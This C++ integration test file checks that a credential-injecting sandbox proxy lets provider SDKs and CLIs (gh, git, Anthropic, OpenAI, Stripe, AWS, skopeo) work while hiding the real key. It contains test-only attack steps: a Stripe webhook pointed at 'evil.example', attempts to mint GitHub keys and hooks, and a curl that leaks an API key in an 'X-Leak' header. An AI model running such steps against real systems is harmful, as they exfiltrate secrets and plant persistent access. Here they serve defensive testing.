// Providers' own clients and SDKs, with the shipped packs, against origins that check credentials as the providers do and say
// them back where they can: they work without a key of their own, and see nothing of the one that is put in.
#include <gmock/gmock.h>

#include <filesystem>

#include "files.h"
#include "guarded.h"
#include "leak.h"

namespace sallyport::integration {
namespace {

using testing::AllOf;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

const std::string kCredentials = R"(  x_api_key: { type: header, name: x-api-key, value: "${secrets.token}" }
)";

class Providers : public IntegrationTest {
protected:
    static std::string with(const std::string& rules) { return policy(rules, {}, kCredentials); }
    // A client that has a key of its own, which is worth nothing, in a home of its own.
    static Finished run(const Guard& guard, const std::string& script, std::vector<std::string> environment = {}) {
        const std::string home = World::get().scratch();
        environment.push_back("HOME=" + home);
        environment.push_back("PATH=/usr/bin:/bin");
        environment.push_back("NODE_PATH=" SALLYPORT_NPM_CLIENTS);
        return finish(guard.start({.argv = {"/bin/sh", "-ec", script}, .environment = environment, .working_directory = home}));
    }
    static std::string client_file(const std::string& script) {
        const std::string file = World::get().scratch() + "/client.py";
        write_file(file, script);
        return file;
    }
    static Finished node(const Guard& guard, const std::string& script, std::vector<std::string> environment = {}) {
        const std::string file = World::get().scratch() + "/client.cjs";
        write_file(file, "(async () => {" + script + "})().catch((error) => console.log('failed', String(error)));\n");
        return run(guard, "exec node " + file, std::move(environment));
    }
};

TEST_F(Providers, GhReadsAndWritesTheRepositoryOfTheRule) {
    Guard guard(with("      - { use: github, credential: bearer, repos: [acme/app] }\n"));
    Finished gh = run(guard,
                      "gh api repos/acme/app --jq .full_name; gh api repos/acme/app/issues -f title=hello --jq .title;"
                      "gh api repos/acme/app --jq .clone_url",
                      {"GH_TOKEN=sandboxes-own"});
    EXPECT_THAT(gh.out, HasSubstr("acme/app\nhello\nhttps://x:")) << gh.err;
    EXPECT_THAT(seen_by("api.github.com"), AllOf(HasSubstr("Authorization: Bearer " + std::string(kSecret) + "\r\n"),
                                                 Not(HasSubstr("sandboxes-own"))));
}

// R11, R13, D18.
TEST_F(Providers, R11_GhCannotMakeKeysHooksOrReachAnotherOwner) {
    Guard guard(with("      - { use: github, credential: bearer, repos: [acme/app] }\n"
                     "      - { host: api.github.com, credential: bearer }\n"));
    for (const char* path : {"user/keys", "repos/acme/app/keys", "repos/acme/app/hooks", "authorizations"}) {
        Finished gh = run(guard, std::string("gh api -X POST ") + path + " -f key=x", {"GH_TOKEN=x"});
        EXPECT_NE(gh.code, 0) << path;
        EXPECT_THAT(gh.all(), HasSubstr("403")) << path;
        EXPECT_THAT(gh.all(), Not(HasSubstr("minted"))) << path;
    }
    EXPECT_EQ(seen_by("api.github.com"), "");
    Guard narrow(with("      - { use: github, credential: bearer, repos: [acme/app] }\n"));
    Finished gh = run(narrow, "gh api -X POST repos/eve/app/issues -f title=x", {"GH_TOKEN=x"});
    EXPECT_THAT(gh.all(), HasSubstr("403"));
    EXPECT_EQ(seen_by("api.github.com"), "");
}

TEST_F(Providers, GitClonesAndPushesToTheRepositoryOfTheRule) {
    Network::command(-1, {"/usr/bin/python3", SALLYPORT_SOURCE_DIR "/tests/integration/origin/make_packages.py",
                          world().path("internet"), "git"});
    make_directory(world().path("internet/git/acme"));
    std::filesystem::create_directory_symlink("../repo.git", world().path("internet/git/acme/app.git"));
    Guard guard(with("      - { use: github-git, credential: basic, repos: [acme/app] }\n"));
    Finished git = run(guard,
                       "git clone -q https://github.com/acme/app.git; cd app; cat README; echo more >MORE; git add MORE;"
                       "git -c user.name=A -c user.email=a@acme.example commit -q -m second; git push -q origin main;"
                       "git ls-remote origin main | cut -f1; git rev-parse main;"
                       "git ls-remote https://github.com/eve/app.git 2>&1 || true");
    const auto result = lines(git.out);
    ASSERT_GE(result.size(), 4u) << git.err;
    EXPECT_EQ(result[0], "tiny from git");
    EXPECT_EQ(result[1], result[2]);
    EXPECT_THAT(git.out, HasSubstr("403"));
    EXPECT_THAT(seen_by("github.com"), Not(HasSubstr("/eve/")));
}

TEST_F(Providers, AnthropicsSdkTalksAndStreams) {
    Guard guard(with("      - { use: anthropic, credential: x_api_key }\n"));
    Finished sdk = node(guard, R"(
const Anthropic = require("@anthropic-ai/sdk");
const client = new Anthropic({ maxRetries: 0 });
const ask = { model: "m", max_tokens: 9, messages: [{ role: "user", content: "hello" }] };
console.log((await client.messages.create(ask)).content[0].text);
let text = "";
for await (const event of await client.messages.create({ ...ask, stream: true }))
    if (event.type === "content_block_delta") text += event.delta.text;
console.log(text);
)",
                        {"ANTHROPIC_API_KEY=sandboxes-own"});
    EXPECT_THAT(sdk.out, HasSubstr("you said hello with ")) << sdk.err;
    EXPECT_EQ(lines(sdk.out).size(), 2u) << sdk.out;
    EXPECT_EQ(lines(sdk.out)[0], lines(sdk.out)[1]);
    EXPECT_THAT(seen_by("api.anthropic.com"),
                AllOf(HasSubstr("x-api-key: " + std::string(kSecret)), Not(HasSubstr("sandboxes-own"))));
}

TEST_F(Providers, OpenaisSdkTalksAndStreams) {
    Guard guard(with("      - { use: openai, credential: bearer }\n"));
    Finished sdk = node(guard, R"(
const OpenAI = require("openai");
const client = new OpenAI({ maxRetries: 0 });
const ask = { model: "m", messages: [{ role: "user", content: "hello" }] };
console.log((await client.chat.completions.create(ask)).choices[0].message.content);
let text = [];
for await (const chunk of await client.chat.completions.create({ ...ask, stream: true }))
    text.push(chunk.choices[0].delta.content);
console.log(text.join(" "));
await client.files.list().catch((error) => console.log("files", error.status));
)",
                        {"OPENAI_API_KEY=sandboxes-own"});
    const auto result = lines(sdk.out);
    ASSERT_EQ(result.size(), 3u) << sdk.all();
    EXPECT_THAT(result[0], HasSubstr("you said hello with "));
    EXPECT_EQ(result[0], result[1]);
    EXPECT_EQ(result[2], "files 403");
    EXPECT_THAT(seen_by("api.openai.com"), Not(HasSubstr("sandboxes-own")));
}

TEST_F(Providers, StripesSdkWorksAndItsErrorsQuoteNothing) {
    Guard guard(with("      - { use: stripe, credential: bearer }\n"));
    Finished sdk = node(guard, R"(
const stripe = require("stripe")("sk_test_sandboxesown", { maxNetworkRetries: 0, telemetry: false });
console.log((await stripe.customers.create({ email: "a@acme.example" })).email);
await stripe.customers.create({ email: "refused@acme.example" }).catch((error) => console.log(error.type, error.message));
await stripe.ephemeralKeys.create({ customer: "cus_1" }, { apiVersion: "2024-06-20" }).catch((error) => console.log(error.statusCode));
await stripe.webhookEndpoints.create({ url: "https://evil.example", enabled_events: ["*"] }).catch((error) => console.log(error.statusCode));
)");
    const auto result = lines(sdk.out);
    ASSERT_EQ(result.size(), 4u) << sdk.all();
    EXPECT_EQ(result[0], "a@acme.example");
    EXPECT_THAT(result[1], HasSubstr("StripeCardError declined for "));
    EXPECT_EQ(result[2], "403");
    EXPECT_EQ(result[3], "403");
    EXPECT_THAT(seen_by("api.stripe.com"), AllOf(Not(HasSubstr("sandboxesown")), Not(HasSubstr("ephemeral"))));
}

// The server that keeps the objects, behind the page that verifies signatures.
Process start_s3(World& world) {
    make_directory(world.path("internet/s3"));
    Process server({.argv = {"/usr/bin/env", "node", SALLYPORT_SOURCE_DIR "/tests/integration/origin/s3.js", "127.0.0.1", "9000",
                             "acme-data", world.path("internet/s3")},
                    .environment = {"NODE_PATH=" SALLYPORT_NPM_CLIENTS, "PATH=/usr/local/bin:/usr/bin:/bin"},
                    .netns = world.network().internet()},
                   world.path("internet/s3rver"));
    EXPECT_TRUE(wait_for_text(server.out_path(), "ready")) << server.err();
    return server;
}

const std::string kBucket = "  bucket: { type: aws_sigv4, access_key_id: " + std::string(kAwsKeyId) +
                            ", secret_access_key: \"${secrets.token}\", services: [s3], regions: [eu-west-1], buckets: [acme-data] }\n";

TEST_F(Providers, TheAwsCliCopiesListsAndPresignsWithDummyKeys) {
    Process s3 = start_s3(world());
    Guard guard(policy("      - { use: aws-s3, credential: bucket, buckets: acme-data, regions: eu-west-1 }\n", {}, kBucket));
    Finished aws = run(guard,
                       "echo hello >f; aws s3 cp --quiet f s3://acme-data/a/f; aws s3 ls s3://acme-data/a/ | awk '{print $4}';"
                       "head -c 9000000 /dev/urandom >big; aws s3 cp --quiet big s3://acme-data/big;"
                       "aws s3 cp --quiet s3://acme-data/big back; cmp big back && echo same; rm big back;"
                       "curl -sS \"$(aws s3 presign s3://acme-data/a/f)\";"
                       "aws s3api put-object-acl --bucket acme-data --key a/f --acl public-read 2>&1 || echo no acl;"
                       "aws s3 ls s3://other-bucket/ 2>&1 || echo no other bucket",
                       {"AWS_ACCESS_KEY_ID=AKIASALLYPORT0000000", "AWS_SECRET_ACCESS_KEY=dummy", "AWS_REGION=eu-west-1",
                        "AWS_EC2_METADATA_DISABLED=true", "AWS_MAX_ATTEMPTS=1", "AWS_PAGER="});
    EXPECT_THAT(aws.out, HasSubstr("f\nsame\nhello\n")) << aws.err;
    EXPECT_THAT(aws.out, AllOf(HasSubstr("no acl\n"), HasSubstr("no other bucket\n")));
    const std::string seen = seen_by("acme-data.s3.eu-west-1.amazonaws.com");
    EXPECT_THAT(seen, AllOf(HasSubstr(kAwsKeyId), Not(HasSubstr("AKIASALLYPORT0000000")), Not(HasSubstr("?acl"))));
}

// With no login inside: the client gets a token by itself, and what it gets is worth nothing elsewhere.
TEST_F(Providers, SkopeoPushesAndPullsFromARegistryWithoutALogin) {
    const std::string hub = "  hub: { type: registry, username: agent, password: \"${secrets.token}\", realm: \"https://auth.docker.io/token\" }\n";
    Guard guard(policy("      - { use: docker-hub, credential: hub, repos: [acme/app], parts: [pull, push, token] }\n", {}, hub));
    Finished skopeo = run(guard,
                          "/usr/bin/python3 " SALLYPORT_SOURCE_DIR "/tests/integration/clients/make_image.py image;"
                          "skopeo copy -q --insecure-policy dir:image docker://acme/app:1;"
                          "skopeo inspect --format '{{.Architecture}} {{.Digest}}' docker://acme/app:1;"
                          "skopeo copy -q --insecure-policy docker://acme/app:1 dir:back; cmp image/manifest.json back/manifest.json && echo same;"
                          "skopeo inspect docker://eve/app:1 2>&1 || echo no other repository");
    EXPECT_THAT(skopeo.out, AllOf(HasSubstr("amd64 sha256:"), HasSubstr("same\n"), HasSubstr("no other repository"))) << skopeo.err;
    EXPECT_THAT(seen_by("registry-1.docker.io"), AllOf(HasSubstr("canary-of-the-registry"), Not(HasSubstr("/eve/"))));
    EXPECT_THAT(skopeo.all(), Not(HasSubstr("canary-of-the-registry")));
    Finished curl = guard.curl({"https://auth.docker.io/token?scope=repository:acme/app:pull"});
    EXPECT_THAT(curl.out, AllOf(HasSubstr("\"token\""), Not(HasSubstr("canary-of-the-registry"))));
}

// R11: where the answer would hold a token that is the sandbox's to keep.
TEST_F(Providers, R11_ATokenServiceIsDeniedToAPlainCredential) {
    Guard guard(with("      - { host: auth.docker.io, credential: basic }\n"));
    EXPECT_THAT(guard.curl({"https://auth.docker.io/token"}).out, HasSubstr("docker-hub/deny-keys"));
    EXPECT_EQ(seen_by("auth.docker.io"), "");
}

TEST_F(Providers, GooglesClientFindsAMetadataServiceThatKnowsNoSecret) {
    Guard guard(with("      - { host: [metadata.google.internal, 169.254.169.254], scheme: http, metadata: { gcp: bearer, project: acme } }\n"
                     "      - { host: api.acme.example, credential: bearer }\n"));
    Finished client = run(guard, "exec /usr/bin/python3 " + client_file(R"(
import google.auth
from google.auth.transport.requests import AuthorizedSession
credentials, project = google.auth.default(scopes=["https://www.googleapis.com/auth/cloud-platform"])
print(project, AuthorizedSession(credentials).get("https://api.acme.example/private").text.strip())
)"));
    EXPECT_EQ(client.out, "acme welcome\n") << client.err;
}

TEST_F(Providers, AwssClientsFindAMetadataServiceThatKnowsNoSecret) {
    Process s3 = start_s3(world());
    Guard guard(policy("      - { host: 169.254.169.254, scheme: http, metadata: { aws: bucket, region: eu-west-1, role: agent } }\n"
                       "      - { use: aws-s3, credential: bucket, buckets: acme-data, regions: eu-west-1 }\n",
                       {}, kBucket));
    Finished client = run(guard, "exec /usr/bin/python3 " + client_file(R"(
import botocore.session
session = botocore.session.get_session()
credentials = session.get_credentials()
print(credentials.method)
s3 = session.create_client("s3", region_name="eu-west-1")
s3.put_object(Bucket="acme-data", Key="from/metadata", Body=b"hello")
print(s3.get_object(Bucket="acme-data", Key="from/metadata")["Body"].read().decode())
)"));
    EXPECT_EQ(client.out, "iam-role\nhello\n") << client.err;
}

// The variable is set for the client, and holds what is worth nothing elsewhere.
TEST_F(Providers, OpenaisSdkIsGivenAPlaceholder) {
    const std::string credential = "  ai: { type: placeholder, secret: token, env: OPENAI_API_KEY, prefix: \"sk-\", in: [\"header:authorization\"] }\n";
    const std::string directory = world().scratch();
    write_file(directory + "/client.cjs", R"(
const OpenAI = require("openai");
new OpenAI({ maxRetries: 0 }).chat.completions.create({ model: "m", messages: [{ role: "user", content: "hello" }] })
    .then((answer) => console.log(process.env.OPENAI_API_KEY.slice(0, 3), answer.choices[0].message.content), console.log);
)");
    Finished sdk = run_in_sandbox(policy("      - { use: openai, credential: ai }\n      - { host: open.acme.example }\n", {}, credential),
                                  {"sh", "-c",
                                   "export NODE_PATH=/mnt/npm; node client.cjs;"
                                   "curl -sS -H \"X-Leak: $OPENAI_API_KEY\" https://open.acme.example/echo"},
                                  // Wherever the checkout is: what is below /tmp or a home folder is masked.
                                  {.options = {"--bind", SALLYPORT_NPM_CLIENTS ":/mnt/npm"}, .directory = directory});
    EXPECT_THAT(sdk.out, HasSubstr("sk- you said hello with ")) << sdk.err;
    EXPECT_THAT(sdk.out, HasSubstr("placeholder_misused"));
}

}  // namespace
}  // namespace sallyport::integration
